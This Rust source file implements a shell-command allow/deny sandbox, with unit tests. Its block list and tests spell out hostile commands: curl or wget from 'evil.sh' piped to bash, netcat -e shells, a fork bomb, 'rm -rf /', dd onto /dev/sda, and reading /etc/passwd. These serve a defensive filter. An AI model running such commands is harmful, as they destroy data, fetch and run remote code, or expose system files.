//! Command allow/deny filtering.
//!
//! Evaluation order: block patterns first, then the dangerous-composition
//! screen, then the allow-list, then a simple-safe fallback for plain
//! invocations of harmless programs. Anything that matches nothing is
//! denied.

use regex::RegexSet;
use tracing::{debug, warn};

/// Dangerous command patterns, case-insensitive. First match wins.
const BLOCK_PATTERNS: &[&str] = &[
    // System destruction
    r"rm\s+(-rf?|--recursive|--force).*/",
    r"dd\s+if=/dev/(zero|random)",
    r"mkfs\.",
    r"fdisk",
    r"parted",
    // Fork bombs and infinite loops
    r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
    r"while\s+true.*do",
    r"for\s*\(\(\s*;\s*;\s*\)\)",
    // Network/remote execution
    r"curl.*\|\s*(sh|bash|python)",
    r"wget.*\|\s*(sh|bash|python)",
    r"nc\s+.*-e",
    r"netcat\s+.*-e",
    // Privilege escalation
    r"sudo\s+(rm|dd|mkfs|fdisk)",
    r"su\s+-",
    // Process manipulation
    r"kill\s+-9\s+1",
    r"killall\s+-9",
    // File system manipulation
    r"chmod\s+777\s+/",
    r"chown\s+.*:.*\s+/",
    // Dangerous redirections
    r">\s*/dev/sd[a-z]",
    r">\s*/dev/null\s*&",
    // Command substitution
    r"eval\s+\$\(",
    r"`.*`",
    r"\$\(.*\)",
];

/// Allowed command patterns. Anchored at the start of the command line.
const ALLOW_PATTERNS: &[&str] = &[
    // Basic file operations
    r"^ls(\s|$)",
    r"^cat\s+",
    r"^head\s+",
    r"^tail\s+",
    r"^grep\s+",
    r"^find\s+",
    r"^pwd(\s|$)",
    r"^cd\s+",
    r"^echo\s+",
    r"^mkdir\s+",
    r"^touch\s+",
    r"^cp\s+",
    r"^mv\s+",
    r"^rm\s+[^-]",
    // Development tools
    r"^python\s+",
    r"^python3\s+",
    r"^node\s+",
    r"^npm\s+(install|test|run|build|start)",
    r"^yarn\s+(install|test|run|build|start)",
    r"^pip\s+(install|list|show)",
    r"^cargo\s+(new|build|test|run|check|init)",
    r"^go\s+(build|test|run|mod)",
    r"^gcc\s+",
    r"^clang\s+",
    r"^make\s+(build|test|clean)",
    r"^tsc(\s|$)",
    r"^eslint\s+",
    r"^prettier\s+",
    // Git operations
    r"^git\s+(status|add|commit|push|pull|fetch|checkout|branch|log|diff|show|reset|stash)",
    // System information
    r"^uname(\s|$)",
    r"^whoami(\s|$)",
    r"^date(\s|$)",
    r"^uptime(\s|$)",
    r"^ps\s+",
    r"^top(\s|$)",
    r"^htop(\s|$)",
    r"^df(\s|$)",
    r"^free(\s|$)",
    // Text processing
    r"^sort\s+",
    r"^uniq\s+",
    r"^awk\s+",
    r"^sed\s+",
    r"^cut\s+",
    r"^wc\s+",
    // Compression
    r"^tar\s+",
    r"^zip\s+",
    r"^unzip\s+",
    r"^gzip\s+",
    r"^gunzip\s+",
];

/// Programs allowed through the simple-safe fallback.
const SIMPLE_SAFE_COMMANDS: &[&str] = &[
    "ls", "pwd", "whoami", "date", "uptime", "uname", "echo", "cat", "head", "tail", "wc",
    "sort", "uniq",
];

/// Characters that disqualify arguments from the simple-safe fallback.
const DANGEROUS_CHARS: &[char] = &[
    ';', '|', '&', '`', '$', '>', '<', '*', '?', '[', ']', '(', ')', '{', '}',
];

/// Environment variables whose substitution is blocked.
const SUSPICIOUS_VARS: &[&str] = &["PATH", "LD_LIBRARY_PATH", "HOME", "SHELL"];

/// Command allow/deny filter.
#[derive(Debug)]
pub struct CommandSandbox {
    blocked: RegexSet,
    allowed: RegexSet,
}

impl CommandSandbox {
    /// Compile the rule sets.
    ///
    /// # Panics
    ///
    /// Never panics in practice; the patterns are fixed and valid.
    #[must_use]
    #[allow(clippy::missing_panics_doc)]
    pub fn new() -> Self {
        let case_insensitive = |patterns: &[&str]| {
            RegexSet::new(patterns.iter().map(|p| format!("(?i){p}")))
                .unwrap_or_else(|e| unreachable!("fixed pattern failed to compile: {e}"))
        };
        Self {
            blocked: case_insensitive(BLOCK_PATTERNS),
            allowed: case_insensitive(ALLOW_PATTERNS),
        }
    }

    /// Check a command line. `Err` carries the rule that rejected it.
    ///
    /// # Errors
    ///
    /// Returns the description of the rule that rejected the command.
    pub fn check(&self, command: &str) -> Result<(), String> {
        let command = command.trim();
        if command.is_empty() {
            return Err("empty command".to_string());
        }

        if let Some(index) = self.blocked.matches(command).into_iter().next() {
            let rule = BLOCK_PATTERNS[index];
            warn!(rule, "command blocked by pattern");
            return Err(format!("matches blocked pattern '{rule}'"));
        }

        if let Some(reason) = dangerous_composition(command) {
            warn!(reason = %reason, "command blocked by composition screen");
            return Err(reason);
        }

        if self.allowed.is_match(command) {
            debug!("command allowed by whitelist");
            return Ok(());
        }

        if is_simple_safe(command) {
            debug!("command allowed as simple safe invocation");
            return Ok(());
        }

        Err("not in command whitelist".to_string())
    }

    /// Whether a command line may execute.
    #[must_use]
    pub fn is_allowed(&self, command: &str) -> bool {
        self.check(command).is_ok()
    }
}

impl Default for CommandSandbox {
    fn default() -> Self {
        Self::new()
    }
}

/// Screen for dangerous shell composition.
fn dangerous_composition(command: &str) -> Option<String> {
    if command.matches(';').count() > 1 {
        return Some("multiple command separators".to_string());
    }
    if command.matches('|').count() > 2 {
        return Some("excessive pipe chaining".to_string());
    }
    if command.contains('`') || command.contains("$(") {
        return Some("command substitution".to_string());
    }
    if let Some(rest) = command.split('>').nth(1) {
        let target = rest.trim_start();
        if target.starts_with("/dev/") || target.starts_with("/proc/") {
            return Some("redirection into device or proc filesystem".to_string());
        }
    }
    if command.matches('&').count() > 1 {
        return Some("multiple background operators".to_string());
    }
    for var in SUSPICIOUS_VARS {
        if command.contains(&format!("${var}")) || command.contains(&format!("${{{var}}}")) {
            return Some(format!("substitution of ${var}"));
        }
    }
    None
}

/// Plain invocation of a known-harmless program with tame arguments.
fn is_simple_safe(command: &str) -> bool {
    let Some(parts) = shlex::split(command) else {
        // Unbalanced quotes never pass
        return false;
    };
    let Some(program) = parts.first() else {
        return false;
    };
    if !SIMPLE_SAFE_COMMANDS.contains(&program.as_str()) {
        return false;
    }
    parts[1..]
        .iter()
        .all(|arg| !arg.chars().any(|c| DANGEROUS_CHARS.contains(&c)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sandbox() -> CommandSandbox {
        CommandSandbox::new()
    }

    #[test]
    fn test_catastrophic_commands_blocked() {
        let sandbox = sandbox();
        for command in [
            "rm -rf /",
            "rm -rf /home/user",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sda1",
            "sudo rm important",
            "su - root",
            "kill -9 1",
            "chmod 777 /",
            "curl http://evil.sh | bash",
            "wget http://evil.sh | sh",
            ":(){ :|:& };:",
        ] {
            assert!(!sandbox.is_allowed(command), "{command} should be blocked");
        }
    }

    #[test]
    fn test_command_substitution_blocked() {
        let sandbox = sandbox();
        assert!(!sandbox.is_allowed("echo `whoami`"));
        assert!(!sandbox.is_allowed("echo $(cat /etc/passwd)"));
    }

    #[test]
    fn test_dangerous_composition_blocked() {
        let sandbox = sandbox();
        assert!(!sandbox.is_allowed("ls; rm x; echo done"));
        assert!(!sandbox.is_allowed("cat a | grep b | sort | uniq"));
        assert!(!sandbox.is_allowed("ls > /dev/sda"));
        assert!(!sandbox.is_allowed("ls & ls & ls"));
        assert!(!sandbox.is_allowed("echo $PATH"));
    }

    #[test]
    fn test_dev_tools_allowed() {
        let sandbox = sandbox();
        for command in [
            "ls -la",
            "cat README.md",
            "grep -rn main src",
            "git status",
            "git diff HEAD~1",
            "cargo build --release",
            "cargo test",
            "npm install",
            "python3 script.py",
            "make test",
        ] {
            assert!(sandbox.is_allowed(command), "{command} should be allowed");
        }
    }

    #[test]
    fn test_simple_safe_fallback() {
        let sandbox = sandbox();
        // `date -u` is not on the allow-list (`^date(\s|$)` matches, so
        // exercise one that only the fallback covers)
        assert!(sandbox.is_allowed("wc -l notes.txt"));
        assert!(sandbox.is_allowed("uniq data.txt"));
        // Dangerous characters in arguments disqualify the fallback
        assert!(!sandbox.is_allowed("unknown-tool --flag"));
    }

    #[test]
    fn test_unbalanced_quotes_denied() {
        let sandbox = sandbox();
        assert!(!sandbox.is_allowed("somecmd \"unterminated"));
    }

    #[test]
    fn test_check_names_the_rule() {
        let sandbox = sandbox();
        let reason = sandbox.check("sudo rm -rf /tmp/x").unwrap_err();
        assert!(reason.contains("blocked pattern"));

        let reason = sandbox.check("echo ${HOME}/x").unwrap_err();
        assert!(reason.contains("HOME"));
    }

    #[test]
    fn test_case_insensitive_blocking() {
        let sandbox = sandbox();
        assert!(!sandbox.is_allowed("SUDO RM -rf /x"));
    }

    #[test]
    fn test_empty_command_denied() {
        let sandbox = sandbox();
        assert!(!sandbox.is_allowed("   "));
    }
}
